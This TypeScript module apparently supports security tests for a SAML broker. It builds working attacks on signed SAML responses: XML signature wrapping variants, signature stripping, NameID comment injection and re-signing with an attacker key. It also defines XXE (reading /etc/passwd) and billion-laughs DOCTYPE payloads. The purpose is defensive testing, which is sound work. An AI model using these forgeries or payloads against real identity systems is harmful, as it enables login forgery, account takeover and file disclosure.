import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import type { SigningCert } from '../../infra/local/saml-idp.ts';

/**
 * Attacks on a real signed SAMLResponse, built by DOM manipulation as SAMLRaider does (security catalog
 * S-01, S-03, S-04, S-06, S-09): each takes and returns base64, and keeps the original signature bytes.
 */
const P = 'urn:oasis:names:tc:SAML:2.0:protocol';
const A = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

const decode = (b64: string) => Buffer.from(b64, 'base64').toString('utf8');
const encode = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');
const parse = (b64: string) => new DOMParser().parseFromString(decode(b64), 'text/xml');
const serialize = (doc: Document) => encode(new XMLSerializer().serializeToString(doc));

function child(parent: Element, ns: string, name: string): Element {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).namespaceURI === ns && (node as Element).localName === name) return node as Element;
  }
  throw new Error(`no ${name} under ${parent.localName}`);
}

const assertionOf = (doc: Document) => child(doc.documentElement as Element, A, 'Assertion');

function removeSignature(element: Element): void {
  for (let node = element.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).namespaceURI === DS && (node as Element).localName === 'Signature') {
      element.removeChild(node);
      return;
    }
  }
}

/** An evil, unsigned copy of the assertion naming `evilSubject` (NameID and, if present, the given attribute). */
function evilAssertion(original: Element, evilSubject: string, subjectAttribute?: string): Element {
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute('ID', `_evil${Math.random().toString(36).slice(2)}`);
  removeSignature(evil);
  const nameId = child(child(evil, A, 'Subject'), A, 'NameID');
  nameId.textContent = evilSubject;
  if (subjectAttribute !== undefined) {
    for (const attribute of Array.from(evil.getElementsByTagNameNS(A, 'Attribute'))) {
      if (attribute.getAttribute('Name') === subjectAttribute) {
        const value = attribute.getElementsByTagNameNS(A, 'AttributeValue')[0];
        if (value) value.textContent = evilSubject;
      }
    }
  }
  return evil;
}

export type Attack = (signedResponse: string) => string;

export function xswAttacks(evilSubject: string, subjectAttribute?: string): Record<string, Attack> {
  return {
    /** XSW1: a new evil Response wraps the signed original inside its Signature. */
    'XSW1 evil response, original inside its signature': (b64) => {
      const doc = parse(b64);
      const root = doc.documentElement as Element;
      const original = root.cloneNode(true) as Element;
      const evilRoot = root;
      evilRoot.setAttribute('ID', '_evilresponse');
      const signature = child(evilRoot, DS, 'Signature');
      const assertion = assertionOf(doc);
      evilRoot.replaceChild(evilAssertion(assertion, evilSubject, subjectAttribute), assertion);
      signature.appendChild(original);
      return serialize(doc);
    },
    /** XSW2: the signed original placed as a sibling before the evil Response's content (detached signature). */
    'XSW2 original response as a detached sibling': (b64) => {
      const doc = parse(b64);
      const root = doc.documentElement as Element;
      const original = root.cloneNode(true) as Element;
      removeSignature(original);
      root.setAttribute('ID', '_evilresponse');
      const assertion = assertionOf(doc);
      root.replaceChild(evilAssertion(assertion, evilSubject, subjectAttribute), assertion);
      root.insertBefore(original, root.firstChild);
      return serialize(doc);
    },
    /** XSW3: an evil assertion before the signed one. */
    'XSW3 evil assertion before the signed one': (b64) => {
      const doc = parse(b64);
      const assertion = assertionOf(doc);
      (doc.documentElement as Element).insertBefore(evilAssertion(assertion, evilSubject, subjectAttribute), assertion);
      return serialize(doc);
    },
    /** XSW4: the evil assertion wraps the signed one. */
    'XSW4 evil assertion wrapping the signed one': (b64) => {
      const doc = parse(b64);
      const assertion = assertionOf(doc);
      const evil = evilAssertion(assertion, evilSubject, subjectAttribute);
      (doc.documentElement as Element).replaceChild(evil, assertion);
      evil.appendChild(assertion);
      return serialize(doc);
    },
    /** XSW5/7: the evil assertion takes the signed one's place and keeps its signature; the original is appended. */
    'XSW5 evil assertion with the copied signature, original appended': (b64) => {
      const doc = parse(b64);
      const root = doc.documentElement as Element;
      const assertion = assertionOf(doc);
      const evil = assertion.cloneNode(true) as Element;
      child(child(evil, A, 'Subject'), A, 'NameID').textContent = evilSubject;
      root.replaceChild(evil, assertion);
      const original = assertion;
      removeSignature(original);
      root.appendChild(original);
      return serialize(doc);
    },
    /** XSW6/8: the original assertion hidden inside the evil one's Signature (an Object element). */
    'XSW6 original assertion inside the evil one signature Object': (b64) => {
      const doc = parse(b64);
      const root = doc.documentElement as Element;
      const assertion = assertionOf(doc);
      const evil = assertion.cloneNode(true) as Element;
      child(child(evil, A, 'Subject'), A, 'NameID').textContent = evilSubject;
      evil.setAttribute('ID', `_evil${Math.random().toString(36).slice(2)}`);
      const object = doc.createElementNS(DS, 'ds:Object');
      object.appendChild(assertion.cloneNode(true));
      child(evil, DS, 'Signature').appendChild(object);
      root.replaceChild(evil, assertion);
      return serialize(doc);
    },
    /** The signed assertion hidden in samlp:Extensions, an evil one where the consumer reads. */
    'signed assertion hidden in Extensions': (b64) => {
      const doc = parse(b64);
      const root = doc.documentElement as Element;
      const assertion = assertionOf(doc);
      const extensions = doc.createElementNS(P, 'samlp:Extensions');
      extensions.appendChild(assertion.cloneNode(true));
      root.insertBefore(extensions, child(root, P, 'Status'));
      root.replaceChild(evilAssertion(assertion, evilSubject, subjectAttribute), assertion);
      return serialize(doc);
    },
  };
}

/** Two assertions: the signed one twice (a second signed assertion). */
export const duplicateAssertion: Attack = (b64) => {
  const doc = parse(b64);
  const assertion = assertionOf(doc);
  (doc.documentElement as Element).appendChild(assertion.cloneNode(true));
  return serialize(doc);
};

/** Every signature removed. */
export const stripSignatures: Attack = (b64) => {
  const doc = parse(b64);
  removeSignature(assertionOf(doc));
  removeSignature(doc.documentElement as Element);
  return serialize(doc);
};

/** Only the assertion's signature removed: a signed response carrying an unsigned assertion. */
export const stripAssertionSignature: Attack = (b64) => {
  const doc = parse(b64);
  removeSignature(assertionOf(doc));
  return serialize(doc);
};

/** Inserts markup into the NameID text (Duo 2018 comments, xml-crypto PI quirk) by string surgery on the signed XML. */
export function injectIntoNameId(b64: string, at: number, markup: string): string {
  const xml = decode(b64);
  const match = /(<saml:NameID[^>]*>)([^<]*)(<\/saml:NameID>)/.exec(xml);
  if (match === null) throw new Error('no NameID');
  const value = match[2] ?? '';
  const injected = `${match[1]}${value.slice(0, at)}${markup}${value.slice(at)}${match[3]}`;
  return encode(xml.replace(match[0], injected));
}

/** Prepends a DTD (XXE, billion laughs, the ruby-saml comment trick) to a signed response. */
export function withDoctype(b64: string, doctype: string): string {
  return encode(`${doctype}\n${decode(b64)}`);
}

export const XXE_DOCTYPE = '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
export const BILLION_LAUGHS_DOCTYPE = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`;
export const COMMENT_TRICK_DOCTYPE = `<!DOCTYPE response SYSTEM 'x"><!--'>`;

/**
 * The Response's own signature broken after the IdP signed it: its IssueInstant (covered by the Response signature
 * only, read by nothing else) moved a second. The assertion and its signature are untouched.
 */
export const alterSignedResponse: Attack = (b64) => {
  const doc = parse(b64);
  const root = doc.documentElement as Element;
  const instant = new Date(Date.parse(root.getAttribute('IssueInstant') ?? '') + 1000).toISOString();
  root.setAttribute('IssueInstant', instant);
  return serialize(doc);
};

/**
 * The Response (re-)signed with a key the broker does not pin, its certificate in KeyInfo (security catalog S-10,
 * node-saml's `root-resigned-by-attacker` fixtures): any Response signature of the IdP is replaced by the attacker's,
 * the IdP-signed assertion is kept as it is.
 */
export function resignResponseWith(b64: string, attacker: SigningCert): string {
  const doc = parse(b64);
  removeSignature(doc.documentElement as Element);
  const xml = new XMLSerializer().serializeToString(doc);
  const signer = new SignedXml({
    privateKey: attacker.keyPem,
    publicCert: attacker.certPem,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  signer.addReference({
    xpath: "/*[local-name(.)='Response']",
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signer.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: "/*[local-name(.)='Response']/*[local-name(.)='Issuer']", action: 'after' },
  });
  return encode(signer.getSignedXml());
}
